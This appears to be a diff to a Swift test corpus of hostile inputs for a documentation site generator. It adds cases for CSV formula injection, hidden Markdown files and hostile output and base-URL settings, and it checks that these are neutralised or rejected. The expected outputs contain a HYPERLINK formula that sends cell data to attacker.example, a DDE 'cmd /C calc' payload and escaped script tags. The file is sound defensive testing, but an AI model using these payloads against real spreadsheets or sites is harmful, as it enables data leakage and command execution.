@@ -5,7 +5,7 @@ import Foundation
 enum BadInputCorpus {
     typealias Case = BadInputCase
 
-    static var all: [Case] { encodings + structure + sizes + nesting + aliases + injection + fileSystem }
+    static var all: [Case] { encodings + structure + sizes + nesting + aliases + injection + fileSystem + siteFolders }
 
     static let encodings: [Case] = [
         Case("byte-order mark", data: ["native/bom.md": Data([0xEF, 0xBB, 0xBF]) + Data(Case.entry(title: "Bom slider").utf8)], exit: 0,
@@ -127,6 +127,7 @@ enum BadInputCorpus {
         let fixture = CommandLineRunner.repository.appendingPathComponent("Tests/a11ydocsTests/Fixtures/Hostile")
         let hostile = try! String(contentsOf: fixture.appendingPathComponent("native/hostile.md"), encoding: .utf8)
         let authored = try! String(contentsOf: fixture.appendingPathComponent("web/hostile-authored.md"), encoding: .utf8)
+        let formula = try! String(contentsOf: fixture.appendingPathComponent("native/formula.md"), encoding: .utf8)
         return [
             Case("script in every field and format", files: ["native/hostile.md": hostile, "web/hostile-authored.md": authored], exit: 0,
                  published: [
@@ -136,6 +137,15 @@ enum BadInputCorpus {
                      "native/hostile/index.html": ["&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "The last note survives."],
                      "native/hostile.md": ["\\<script\\>", "The last note survives."],
                      "criteria/native/hostile.feature": ["Scenario: Keyboard"],
+                 ]),
+            // Every cell a spreadsheet would run is neutralised (`OutputHazards` reads each CSV).
+            Case("formulas in every field the CSVs carry", files: ["native/formula.md": formula], exit: 0,
+                 published: [
+                     "criteria/test-cases.csv": ["\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"", "\"''=already quoted\"",
+                                                 "\"'＠fullwidth result\""],
+                     "criteria/test-cases-xray.csv": ["\"'-moves focus\"", "\"'+button\""],
+                     "criteria/test-cases-testrail.csv": ["\"'@text grows\""],
+                     "native/formula/index.html": ["=Formula-looking note"],
                  ]),
         ]
     }
@@ -154,8 +164,32 @@ enum BadInputCorpus {
                  messages: ["Content/native/ok/index.html:1:1: error: this file would overwrite the generated 'native/ok/index.html'"]),
             Case("file where a page folder goes", files: ["native/ok.md": Case.entry(), "native/ok": "plain file"], exit: 1,
                  messages: ["Content/native/ok:1:1: error: this file would overwrite the generated 'native/ok/'"]),
+            Case("hidden Markdown files are named, not dropped", files: ["native/ok.md": Case.entry(), "native/..md": Case.entry(title: "Dots"), "web/.button.md": Case.entry(title: "Hidden")],
+                 exit: 0, messages: ["Content/native/..md:1:1: warning: this Markdown file's name starts with '.', which hides it, and it is not published",
+                                     "Content/web/.button.md:1:1: warning: this Markdown file's name starts with '.'"],
+                 unpublished: ["native/..md", "web/.button.md"]),
             Case("editor leftovers", files: ["native/ok.md": Case.entry(), "native/ok.md~": "backup", "native/#ok.md#": "autosave", "native/4913": "", "native/.ok.md.swp": "swap"],
                  exit: 0, unpublished: ["native/ok.md~", "native/#ok.md#", "native/4913"]),
         ]
+    }
+
+    /// The site's own folders and settings, as a hostile repository sets them.
+    static var siteFolders: [Case] {
+        var cases = [
+            Case("base URL of another site", files: ["native/ok.md": Case.entry()], exit: 1,
+                 messages: ["a11ydocs.yml:1:11: error: 'base_url' must be '/', a path such as '/a11y/' (not '//…')"]),
+            Case("an output folder that is a git repository", files: ["native/ok.md": Case.entry()], exit: 1,
+                 messages: ["'Output' is a git repository (it holds '.git'), and the build replaces the whole folder"]),
+            Case("a marker that is a folder", files: ["native/ok.md": Case.entry()], exit: 1,
+                 messages: ["'Output' holds 'notes.txt', which a11ydocs did not write"]),
+            Case("an output folder above the repository", files: ["native/ok.md": Case.entry()], exit: 1,
+                 messages: ["the output folder '../' holds the content folder"]),
+        ]
+        cases[0].config = "base_url: //evil.example/x/\n"
+        cases[1].outputFiles = [".git/HEAD": "ref: refs/heads/gh-pages\n", "CNAME": "patterns.example.org\n", "index.html": "<p>published</p>"]
+        cases[2].outputFiles = [".a11ydocs/keep": "", "notes.txt": "mine"]
+        cases[3].config = "output: ../\n"
+        for index in 1...3 { cases[index].commands = ["build"] }
+        return cases
     }
 }
